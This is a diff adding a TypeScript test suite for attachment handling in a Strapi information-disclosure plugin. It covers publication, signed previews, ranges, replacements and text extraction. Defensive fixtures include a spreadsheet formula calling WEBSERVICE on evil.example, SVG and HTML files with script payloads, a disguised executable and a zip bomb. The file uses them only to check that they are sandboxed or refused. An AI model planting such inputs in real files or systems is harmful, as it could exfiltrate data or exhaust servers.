@@ -1,0 +1,330 @@
+import { createHash } from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { Document, Packer, Paragraph } from 'docx';
+import { Workbook } from 'exceljs';
+import iconv from 'iconv-lite';
+import supertest from 'supertest';
+import { ZipFile } from 'yazl';
+import { act, agency, documents, edit, entry, get, UID, type Fields, type Stored } from '../helpers/register';
+import { startSite, type Site } from '../helpers/site';
+
+const pdf = (text: string) => Buffer.from(`%PDF-1.4\n% ${text}\n`);
+const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
+const sum = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+/** A page with one line of text. */
+function textPdf(text: string): Buffer {
+  const content = `BT /F1 18 Tf 20 100 Td (${text}) Tj ET`;
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ];
+  let file = '%PDF-1.4\n';
+  const offsets = objects.map((object, index) => {
+    const at = file.length;
+    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return at;
+  });
+  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
+  return Buffer.from(`${file}xref\n0 6\n0000000000 65535 f \n${table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF`);
+}
+async function workbook(): Promise<Buffer> {
+  const book = new Workbook();
+  const sheet = book.addWorksheet('名单');
+  sheet.addRow(['张三', { formula: 'WEBSERVICE("http://evil.example")', result: 3 }]);
+  return Buffer.from(await book.xlsx.writeBuffer());
+}
+/** Names of a Word document round many zeros. */
+async function bomb(): Promise<Buffer> {
+  const archive = new ZipFile();
+  archive.addBuffer(Buffer.from('<Types/>'), '[Content_Types].xml');
+  archive.addBuffer(Buffer.alloc(20_000_000), 'word/document.xml');
+  archive.end();
+  const parts: Buffer[] = [];
+  for await (const part of archive.outputStream) parts.push(part as Buffer);
+  return Buffer.concat(parts);
+}
+
+const FORM = '/admin/content-manager/collection-types/plugin::disclosure.entry/create';
+
+interface Uploaded {
+  id: number;
+  documentId: string;
+  name: string;
+  hash: string;
+  ext: string;
+  url: string;
+}
+
+describe('attachments', () => {
+  let site: Site;
+  let store: string;
+  beforeAll(async () => {
+    store = fs.mkdtempSync(path.join(os.tmpdir(), 'disclosure-files-'));
+    site = await startSite({ config: { plugins: { disclosure: { config: { attachments: { directory: store, maxFileBytes: 1_000_000 } } } } } });
+  });
+  afterAll(async () => {
+    for (const file of (await site.strapi.db.query('plugin::upload.file').findMany({})) as Uploaded[]) fs.rmSync(publicFile(file), { force: true });
+    await site.stop();
+    fs.rmSync(store, { recursive: true, force: true });
+  });
+
+  const publicFile = ({ hash, ext }: { hash: string; ext: string }) => path.join(site.strapi.dirs.static.public, 'uploads', `${hash}${ext}`);
+
+  /** As the panel uploads: `page` is the one on which the editor stands. */
+  async function upload(name: string, bytes: Buffer, page = '/admin/plugins/upload'): Promise<Uploaded> {
+    const answer = await supertest(site.url).post('/upload').set('Authorization', `Bearer ${site.admin.token}`)
+      .set('Referer', `${site.url}${page}`).attach('files', bytes, name).field('fileInfo', JSON.stringify({ name }));
+    expect([answer.status, answer.text]).toEqual([201, answer.text]);
+    return answer.body[0];
+  }
+  async function replace({ id }: Uploaded, name: string, bytes: Buffer): Promise<Uploaded> {
+    const answer = await supertest(site.url).post(`/upload?id=${id}`).set('Authorization', `Bearer ${site.admin.token}`)
+      .attach('files', bytes, name).field('fileInfo', JSON.stringify({ name }));
+    expect(answer.status).toBe(200);
+    return answer.body;
+  }
+  const PLACE = '/content-manager/collection-types/plugin::disclosure.entry';
+  /** As the form saves and publishes. */
+  async function saved(files: Uploaded[], data: Fields = {}): Promise<Stored> {
+    const owner = await agency(site);
+    const answer = await site.admin.request('post', PLACE, { title: '带附件的通知', agency: owner.code, formedOn: '2020-01-01', attachments: files, ...data });
+    expect([answer.status, answer.body.error]).toEqual([201, undefined]);
+    return answer.body.data;
+  }
+  const publish = (documentId: string) => site.admin.request('post', `${PLACE}/${documentId}/actions/publish`, {});
+  async function published(files: Uploaded[], data: Fields = {}): Promise<{ documentId: string; attachments: any[]; body: string }> {
+    const { documentId } = await saved(files, data);
+    expect((await publish(documentId)).status).toBe(200);
+    return detail(documentId);
+  }
+  const detail = async (documentId: string) => (await get(site, `/entries/${documentId}`)).body.data;
+  const ask = (url: string, headers: Record<string, string> = {}) => supertest(site.url).get(url).set(headers).buffer(true).parse((answer, done) => {
+    const parts: Buffer[] = [];
+    answer.on('data', (part: Buffer) => parts.push(part));
+    answer.on('end', () => done(null, Buffer.concat(parts)));
+  });
+  /** The bytes at an address, or status and code of the refusal. */
+  async function at(url: string): Promise<unknown> {
+    const answer = await ask(url);
+    return answer.status === 200 ? String(answer.body) : [answer.status, JSON.parse(String(answer.body)).error.details.code];
+  }
+  async function gonePublicly(file: { hash: string; ext: string }): Promise<void> {
+    for (let tries = 0; fs.existsSync(publicFile(file)) && tries < 100; tries += 1) await new Promise((resolve) => setTimeout(resolve, 10));
+    expect(fs.existsSync(publicFile(file))).toBe(false);
+    expect((await supertest(site.url).get(`/uploads/${file.hash}${file.ext}`)).status).toBe(404);
+  }
+
+  it('go out with the entry alone, with checksum, size and type by content', async () => {
+    const bytes = pdf('规划');
+    const file = await upload('规划.pdf', bytes);
+    expect(fs.existsSync(publicFile(file))).toBe(true);
+    const { documentId, attachments } = await published([file]);
+    await gonePublicly(file);
+    expect(attachments).toEqual([
+      expect.objectContaining({ filename: '规划.pdf', mime: 'application/pdf', size: bytes.length, checksum: `sha256:${sum(bytes)}`, searchable: null, pages: null }),
+    ]);
+    const [{ url, key }] = attachments;
+    expect(url).toBe(`/api/disclosure/entries/${documentId}/attachments/${key}/${encodeURIComponent('规划.pdf')}`);
+    const answer = await ask(url);
+    expect([answer.status, sum(answer.body)]).toEqual([200, sum(bytes)]);
+    expect(answer.headers).toMatchObject({
+      'content-type': 'application/pdf', 'content-length': String(bytes.length), 'accept-ranges': 'bytes', etag: `"${sum(bytes)}"`,
+      'cache-control': 'public, max-age=0, s-maxage=1, must-revalidate', 'x-content-type-options': 'nosniff',
+    });
+    expect(answer.headers['content-disposition']).toMatch(/^inline; .*filename\*=UTF-8''%E8%A7%84%E5%88%92\.pdf/);
+    expect((await get(site, '/entries', { 'filters[title][$contains]': '带附件' })).body.data.find((row: Stored) => row.documentId === documentId).attachmentCount).toBe(1);
+    expect(await at(url.replace(key, 'other'))).toEqual([404, 'ATTACHMENT_NOT_FOUND']);
+  });
+
+  it('answer ranges and confirm copies', async () => {
+    const bytes = pdf('0123456789');
+    const { attachments: [{ url }] } = await published([await upload('a.pdf', bytes)]);
+    const etag = `"${sum(bytes)}"`;
+    const part = await ask(url, { Range: 'bytes=2-5' });
+    expect([part.status, String(part.body), part.headers['content-range']]).toEqual([206, String(bytes.subarray(2, 6)), `bytes 2-5/${bytes.length}`]);
+    expect(String((await ask(url, { Range: 'bytes=-3' })).body)).toBe(String(bytes.subarray(-3)));
+    expect((await ask(url, { Range: 'bytes=2-5', 'If-Range': '"other"' })).status).toBe(200);
+    expect((await ask(url, { Range: `bytes=${bytes.length}-` })).status).toBe(416);
+    expect((await ask(url, { 'If-None-Match': `W/${etag}` })).status).toBe(304);
+    const head = await supertest(site.url).head(url);
+    expect([head.status, head.headers['content-length']]).toEqual([200, String(bytes.length)]);
+  });
+
+  it('uploaded in the form of an entry are never public, not for a moment', async () => {
+    for (const [name, bytes] of [['表.pdf', pdf('表单')], ['图.png', PNG]] as const) {
+      const file = await upload(name, bytes, FORM);
+      expect(file.url).toMatch(/^\/admin-disclosure\/held\//);
+      expect(fs.existsSync(publicFile(file))).toBe(false);
+    }
+    const names = fs.readdirSync(path.join(site.strapi.dirs.static.public, 'uploads'));
+    expect(names.filter((name) => /^(thumbnail_)?(_|tu|biao)/.test(name))).toEqual([]);
+  });
+
+  it('are shown to editors by signed addresses, to nobody without', async () => {
+    const file = await upload('预览.pdf', pdf('预览'), FORM);
+    const { documentId } = await saved([file]);
+    const form = (await site.admin.request('get', `${PLACE}/${documentId}`)).body.data;
+    const shown: string = form.attachments[0].url;
+    expect(await at(shown)).toBe(String(pdf('预览')));
+    expect(await at(shown.split('?')[0]!)).toEqual([404, 'NOT_FOUND']);
+    expect(await at(shown.replace(/until=\d+/, 'until=9999999999999'))).toEqual([404, 'NOT_FOUND']);
+    const library = (await site.admin.request('get', `/upload/files/${file.id}`)).body;
+    expect(await at(library.url)).toBe(String(pdf('预览')));
+  });
+
+  it.each<[string, (documentId: string) => Promise<unknown>, unknown]>([
+    ['draft', async () => undefined, [404, 'ENTRY_NOT_FOUND']],
+    ['on request', (documentId) => edit(site, documentId, { publicity: 'on_request', publicityGround: '依申请公开' }), [404, 'ENTRY_NOT_FOUND']],
+    ['withheld', (documentId) => edit(site, documentId, { publicity: 'withheld', publicityGround: '不予公开' }), [404, 'ENTRY_NOT_FOUND']],
+    ['withdrawn', async (documentId) => {
+      await publish(documentId);
+      await act(site, 'withdraw', documentId);
+    }, [410, 'GONE']],
+    ['merged', async (documentId) => {
+      await publish(documentId);
+      await act(site, 'merge', documentId, { into: (await entry(site, {}, { publish: true })).documentId });
+    }, [410, 'GONE']],
+    ['reinstated', async (documentId) => {
+      await publish(documentId);
+      await act(site, 'withdraw', documentId);
+      await act(site, 'reinstate', documentId);
+    }, String(pdf('状态'))],
+    ['reinstated, draft discarded, corrected', async (documentId) => {
+      await publish(documentId);
+      await act(site, 'withdraw', documentId);
+      await act(site, 'reinstate', documentId);
+      await documents(site, UID.entry).discardDraft({ documentId });
+      await edit(site, documentId, { summary: '又', changeNote: '更正' });
+      await publish(documentId);
+    }, String(pdf('状态'))],
+  ])('%s: the file answers as the entry does', async (_, bring, expected) => {
+    const file = await upload('状态.pdf', pdf('状态'), FORM);
+    const { documentId } = await saved([file]);
+    await bring(documentId);
+    expect(await at(`/api/disclosure/entries/${documentId}/attachments/${file.documentId}/x.pdf`)).toEqual(expected);
+    await gonePublicly(file);
+  });
+
+  it('replaced keep their address, and change nothing public before a correction', async () => {
+    const file = await upload('名单.pdf', pdf('第一版'));
+    const { documentId, attachments: [{ url }] } = await published([file]);
+    await gonePublicly(file);
+    await replace(file, '名单（更正）.pdf', pdf('第二版'));
+    await gonePublicly(file);
+    expect(await at(url)).toBe(String(pdf('第一版')));
+    await edit(site, documentId, { changeNote: '名单有误' });
+    expect((await publish(documentId)).status).toBe(200);
+    expect(await at(url)).toBe(String(pdf('第二版')));
+    const { attachments } = await detail(documentId);
+    expect(attachments).toEqual([expect.objectContaining({ filename: '名单（更正）.pdf', key: file.documentId })]);
+    const versions = await site.strapi.db.query('plugin::disclosure.version').findMany({ where: { target: documentId }, orderBy: { number: 'asc' } });
+    expect(versions.map(({ content }: any) => content.files[0].sha256)).toEqual([sum(pdf('第一版')), sum(pdf('第二版'))]);
+    const other = await upload('名单（更正）.pdf', pdf('第三版'), FORM);
+    await edit(site, documentId, { attachments: [other.id], changeNote: '再次更正' });
+    expect((await publish(documentId)).status).toBe(200);
+    expect(await at(url)).toBe(String(pdf('第三版')));
+  });
+
+  it('cannot be deleted from the library while an entry names them', async () => {
+    const file = await upload('留存.pdf', pdf('留存'), FORM);
+    const { documentId, attachments: [{ url }] } = await published([file]);
+    const refused = await site.admin.request('delete', `/upload/files/${file.id}`);
+    expect([refused.status, refused.body.error.details.code]).toEqual([409, 'FILE_IN_USE']);
+    expect((await site.admin.request('post', '/upload/actions/bulk-delete', { fileIds: [file.id] })).status).toBe(409);
+    expect(await at(url)).toBe(String(pdf('留存')));
+    await edit(site, documentId, { attachments: [], changeNote: '附件重复' });
+    expect((await site.admin.request('delete', `/upload/files/${file.id}`)).status).toBe(409);
+    await publish(documentId);
+    expect(await at(url)).toEqual([404, 'ATTACHMENT_NOT_FOUND']);
+    expect((await site.admin.request('delete', `/upload/files/${file.id}`)).status).toBe(200);
+  });
+
+  it('of a body are pictures under its own address', async () => {
+    const picture = await upload('现场.png', PNG);
+    const { documentId, body, attachments } = await published([], { body: `<p>见图<img src="${picture.url}" alt="现场"></p>` });
+    await gonePublicly(picture);
+    expect(attachments).toEqual([]);
+    const src = /src="([^"]+)"/.exec(body)![1]!;
+    expect(src).toBe(`/api/disclosure/entries/${documentId}/attachments/${picture.documentId}/${encodeURIComponent('现场.png')}`);
+    const answer = await ask(src);
+    expect([answer.status, answer.headers['content-type'], answer.headers['content-security-policy']]).toEqual([200, 'image/png', "sandbox; default-src 'none'"]);
+    await act(site, 'withdraw', documentId);
+    expect(await at(src)).toEqual([410, 'GONE']);
+  });
+
+  it.each([
+    ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'image/svg+xml'],
+    ['page.html', '<!doctype html><script>alert(1)</script>', 'text/html'],
+    ['list.csv', '单位,数\r\n', 'text/csv'],
+  ])('%s is a download, in a sandbox', async (name, text, mime) => {
+    const { attachments: [{ url }] } = await published([await upload(name, Buffer.from(text), FORM)]);
+    const { headers } = await ask(url);
+    expect(headers).toMatchObject({ 'content-type': mime, 'x-content-type-options': 'nosniff', 'content-security-policy': "sandbox; default-src 'none'" });
+    expect(headers['content-disposition']).toMatch(/^attachment;/);
+  });
+
+  it.each([
+    ['假.pdf', Buffer.from('<html><script>alert(1)</script>'), '扩展名与内容不符'],
+    ['程序.pdf', Buffer.from('MZ\x90\0\x03\0\0\0'), '不是可以公开的文件类型'],
+    ['图.docx', PNG, '扩展名与内容不符'],
+  ])('%s is not what it says, and nothing is saved', async (name, bytes, message) => {
+    const owner = await agency(site);
+    const file = await upload(name, bytes, FORM);
+    const before = await site.strapi.db.query(UID.entry as never).count();
+    const answer = await site.admin.request('post', PLACE, { title: '甲', agency: owner.code, formedOn: '2020-01-01', attachments: [file.id] });
+    expect([answer.status, answer.body.error.details.code]).toEqual([400, 'INVALID_INPUT']);
+    expect(answer.body.error.message).toContain(message);
+    expect(await site.strapi.db.query(UID.entry as never).count()).toBe(before);
+  });
+
+  it('beyond the size limit are refused', async () => {
+    const owner = await agency(site);
+    const file = await upload('大.pdf', Buffer.concat([pdf('大'), Buffer.alloc(1_000_001, 32)]));
+    const answer = await site.admin.request('post', PLACE, { title: '甲', agency: owner.code, formedOn: '2020-01-01', attachments: [file.id] });
+    expect([answer.status, answer.body.error.details.code]).toEqual([413, 'FILE_TOO_LARGE']);
+    expect(fs.existsSync(publicFile(file))).toBe(true);
+  });
+
+  it('have their text read aside: for search, for telephones, with what cannot be read told', async () => {
+    const texts = site.strapi.plugin('disclosure').service('attachment') as any;
+    await texts.readTexts();
+    const files: [name: string, bytes: Buffer][] = [
+      ['通知.docx', await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('关于清淤的通知正文')] }] }))],
+      ['名单.xlsx', await workbook()],
+      ['规划.pdf', textPdf('Drainage plan of the county')],
+      ['说明.txt', iconv.encode('国标编码的说明文字', 'gb18030')],
+      ['扫描.png', PNG],
+      ['炸弹.docx', await bomb()],
+    ];
+    const { documentId, attachments } = await published(await Promise.all(files.map(([name, bytes]) => upload(name, bytes, FORM))));
+    const { body: { meta } } = await get(site, `/entries/${documentId}`);
+    await texts.readTexts();
+    const after = await get(site, `/entries/${documentId}`);
+    expect(after.body.meta.version).toBeGreaterThan(meta.version);
+    expect(after.body.data.attachments.map(({ filename, pages, searchable }: Fields) => [filename, pages, searchable])).toEqual([
+      ['通知.docx', null, true], ['名单.xlsx', null, true], ['规划.pdf', 1, true], ['说明.txt', null, true], ['扫描.png', null, false], ['炸弹.docx', null, false],
+    ]);
+    const read = await Promise.all(attachments.map(({ key }) => get(site, `/entries/${documentId}/attachments/${key}`).then(({ body }) => body.data)));
+    expect(read.map(({ reading }) => reading)).toEqual(['done', 'done', 'done', 'done', 'none', 'failed']);
+    const html = read.map((one) => one.html ?? '');
+    expect(html[0]).toBe('<p>关于清淤的通知正文</p>');
+    expect(html[1]).toContain('<tr><td>张三</td><td>3</td></tr>');
+    expect(html[1]).not.toContain('WEBSERVICE');
+    expect(html[2]).toContain('Drainage plan of the county');
+    expect(html[3]).toBe('<p>国标编码的说明文字</p>');
+    const unread = await site.admin.request('get', '/admin-disclosure/files/unread');
+    expect(unread.body.data).toEqual([expect.objectContaining({ failure: 'archive bomb', entries: [{ documentId, title: '带附件的通知' }] })]);
+    await act(site, 'withdraw', documentId);
+    expect((await get(site, `/entries/${documentId}/attachments/${attachments[0].key}`)).status).toBe(410);
+  });
+
+  it('leave the catalogue as reindex would make it', async () => {
+    const catalogue = site.strapi.plugin('disclosure').service('catalogue') as any;
+    expect((await catalogue.verify()).differences).toEqual([]);
+    await catalogue.reindex();
+    expect((await catalogue.verify()).differences).toEqual([]);
+  });
+});
